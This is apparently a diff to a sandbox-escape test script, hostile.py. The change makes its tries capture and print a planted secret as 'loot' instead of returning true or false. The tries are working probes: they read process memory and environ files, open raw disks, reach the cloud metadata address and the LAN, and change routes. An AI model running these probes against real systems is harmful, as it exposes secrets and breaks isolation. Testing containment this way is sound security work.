@@ -2,8 +2,9 @@
 
 usage: python hostile.py FACTS [TRY...]
 
-FACTS is a JSON object in a file: what a try needs to know of the host that it wants to reach. Prints a JSON
-object: for each try `true`, or the error that stopped it.
+FACTS is a JSON object in a file: what a try needs to know of the host that it wants to reach; of its secret
+that is a hash. Prints a JSON object: for each try `true`, or the error that stopped it; and as `loot` the
+secret, by each try that got hold of it.
 """
 
 from __future__ import annotations
@@ -11,9 +12,11 @@ from __future__ import annotations
 import ctypes
 import errno
 import fcntl
+import hashlib
 import json
 import os
 import platform
+import re
 import signal
 import socket
 import struct
@@ -26,6 +29,13 @@ from typing import Any
 
 libc = ctypes.CDLL(None, use_errno=True)
 TRIES: dict[str, Callable[[dict[str, Any]], object]] = {}
+
+
+class Loot(str):
+    """The host's secret."""
+
+    __slots__ = ()
+
 
 #: Numbers of system calls that have no function in libc.
 NUMBERS = {
@@ -66,9 +76,18 @@ NUMBERS = {
 }[platform.machine()]
 
 
-def attempt(function: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, Any]], object]:
+def attempt(
+    function: Callable[[dict[str, Any]], object],
+) -> Callable[[dict[str, Any]], object]:
     TRIES[function.__name__] = function
     return function
+
+
+def loot(data: bytes, facts: dict[str, Any]) -> Loot:
+    for word in re.findall(rb"[0-9a-f]{32}", data):
+        if hashlib.sha256(word).hexdigest() == facts["digest"]:
+            return Loot(word.decode())
+    raise PermissionError("the secret is not in it")
 
 
 def checked(result: int) -> int:
@@ -81,7 +100,10 @@ def checked(result: int) -> int:
 def call(name: str, *arguments: Any) -> int:
     # Without their types, numbers would be passed as 32 bits.
     return checked(
-        libc.syscall(NUMBERS[name], *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
+        libc.syscall(
+            NUMBERS[name],
+            *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments),
+        )
     )
 
 
@@ -90,7 +112,7 @@ def call(name: str, *arguments: Any) -> int:
 
 @attempt
 def read_a_key(facts: dict[str, Any]) -> object:
-    return facts["secret"] in Path(facts["key"]).read_text()
+    return loot(Path(facts["key"]).read_bytes(), facts)
 
 
 @attempt
@@ -102,7 +124,7 @@ def read_the_passwords(facts: dict[str, Any]) -> object:
 def read_memory_by_proc(facts: dict[str, Any]) -> object:
     with open(f"/proc/{facts['victim']}/mem", "rb", buffering=0) as memory:
         memory.seek(facts["address"])
-        return memory.read(8)
+        return loot(memory.read(32), facts)
 
 
 @attempt
@@ -110,19 +132,27 @@ def read_memory_by_call(facts: dict[str, Any]) -> object:
     class Vector(ctypes.Structure):
         _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
 
-    buffer = ctypes.create_string_buffer(8)
-    here = Vector(ctypes.addressof(buffer), 8)
-    there = Vector(facts["address"], 8)
-    return call("process_vm_readv", facts["victim"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
+    buffer = ctypes.create_string_buffer(32)
+    here = Vector(ctypes.addressof(buffer), 32)
+    there = Vector(facts["address"], 32)
+    call(
+        "process_vm_readv",
+        facts["victim"],
+        ctypes.byref(here),
+        1,
+        ctypes.byref(there),
+        1,
+        0,
+    )
+    return loot(buffer.raw, facts)
 
 
 @attempt
 def find_a_secret_in_environments(facts: dict[str, Any]) -> object:
     for path in Path("/proc").glob("[0-9]*/environ"):
         try:
-            if facts["secret"].encode() in path.read_bytes():
-                return True
-        except OSError:
+            return loot(path.read_bytes(), facts)
+        except OSError:  # PermissionError is one
             continue
     raise PermissionError("no process shows it")
 
@@ -175,7 +205,17 @@ def inherit_open_files(facts: dict[str, Any]) -> object:
 @attempt
 def open_by_handle(facts: dict[str, Any]) -> object:
     handle, mount = ctypes.create_string_buffer(b"\x80" + bytes(255)), ctypes.c_int()
-    return call("name_to_handle_at", -100, b"/", ctypes.byref(handle), ctypes.byref(mount), 0) == 0
+    return (
+        call(
+            "name_to_handle_at",
+            -100,
+            b"/",
+            ctypes.byref(handle),
+            ctypes.byref(mount),
+            0,
+        )
+        == 0
+    )
 
 
 # -- devices and the kernel
@@ -184,7 +224,7 @@ def open_by_handle(facts: dict[str, Any]) -> object:
 @attempt
 def open_a_disk(facts: dict[str, Any]) -> object:
     with open(facts["block"], "rb", buffering=0) as disk:
-        return facts["secret"].encode() in disk.read(512)
+        return loot(disk.read(512), facts)
 
 
 @attempt
@@ -193,7 +233,7 @@ def make_a_device(facts: dict[str, Any]) -> object:
     os.mknod(place, 0o60600, os.makedev(*facts["numbers"]))
     try:
         with place.open("rb", buffering=0) as disk:
-            return facts["secret"].encode() in disk.read(512)
+            return loot(disk.read(512), facts)
     finally:
         place.unlink()
 
@@ -292,7 +332,11 @@ def become_root(facts: dict[str, Any]) -> object:
 @attempt
 def make_a_user_namespace(facts: dict[str, Any]) -> object:
     done = subprocess.run(
-        [sys.executable, "-c", "import ctypes,os;c=ctypes.CDLL(None);os._exit(-c.unshare(0x10000000) & 1)"],
+        [
+            sys.executable,
+            "-c",
+            "import ctypes,os;c=ctypes.CDLL(None);os._exit(-c.unshare(0x10000000) & 1)",
+        ],
         check=False,
     )
     if done.returncode:
@@ -384,24 +428,24 @@ def gain_by_running_another_program(facts: dict[str, Any]) -> object:
 # -- the network
 
 
-def reach(address: tuple[str, int], secret: str) -> object:
-    with socket.create_connection(address, timeout=2) as stream:
-        return secret in stream.recv(200).decode()
+def reach(host: str, facts: dict[str, Any]) -> object:
+    with socket.create_connection((host, facts["port"]), timeout=2) as stream:
+        return loot(stream.recv(200), facts)
 
 
 @attempt
 def reach_the_hosts_loopback(facts: dict[str, Any]) -> object:
-    return reach(("127.0.0.1", facts["port"]), facts["secret"])
+    return reach("127.0.0.1", facts)
 
 
 @attempt
 def reach_the_local_network(facts: dict[str, Any]) -> object:
-    return reach((facts["lan"], facts["port"]), facts["secret"])
+    return reach(facts["lan"], facts)
 
 
 @attempt
 def reach_the_metadata_service(facts: dict[str, Any]) -> object:
-    return reach(("169.254.169.254", facts["port"]), facts["secret"])
+    return reach("169.254.169.254", facts)
 
 
 @attempt
@@ -409,7 +453,9 @@ def scan_the_local_network(facts: dict[str, Any]) -> object:
     prefix = facts["lan"].rpartition(".")[0]
     for last in range(1, 255):
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
-            probe.connect((f"{prefix}.{last}", 9))
+            probe.connect((f"{prefix}.{last}", facts["port"]))
+            if f"{prefix}.{last}" == facts["lan"]:
+                probe.send(b"who is there?")
     return True
 
 
@@ -428,7 +474,7 @@ def be_reached_from_outside(facts: dict[str, Any]) -> object:
         stream, _ = door.accept()
         with stream:
             stream.settimeout(facts["patience"])
-            return facts["secret"] in stream.recv(200).decode()
+            return loot(stream.recv(200), facts)
 
 
 @attempt
@@ -478,7 +524,22 @@ def speak_to_the_firewall(facts: dict[str, Any]) -> object:
 def change_the_routes(facts: dict[str, Any]) -> object:
     add, remove, up_host_reject = 0x890B, 0x890C, 0x0205
     nobody = struct.pack("=H2x4s8x", socket.AF_INET, socket.inet_aton("203.0.113.254"))
-    route = struct.pack("@L16s16s16sHhLPhPLLH", 0, nobody, b"", b"", up_host_reject, 0, 0, 0, 0, 0, 0, 0, 0)
+    route = struct.pack(
+        "@L16s16s16sHhLPhPLLH",
+        0,
+        nobody,
+        b"",
+        b"",
+        up_host_reject,
+        0,
+        0,
+        0,
+        0,
+        0,
+        0,
+        0,
+        0,
+    )
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
         fcntl.ioctl(control, add, route)
         fcntl.ioctl(control, remove, route)
@@ -618,12 +679,16 @@ def open_many_files(facts: dict[str, Any]) -> object:
 def main() -> None:
     facts = json.loads(Path(sys.argv[1]).read_text())
     report: dict[str, object] = {}
+    shown: dict[str, str] = {}
     for name in sys.argv[2:] or TRIES:
         try:
-            report[name] = bool(TRIES[name](facts)) or "nothing came of it"
+            result = TRIES[name](facts)
+            report[name] = bool(result) or "nothing came of it"
+            if isinstance(result, Loot):
+                shown[name] = result
         except Exception as error:
             report[name] = f"{type(error).__name__}: {error}"
-    print(json.dumps(report))
+    print(json.dumps({**report, "loot": shown}))
 
 
 if __name__ == "__main__":
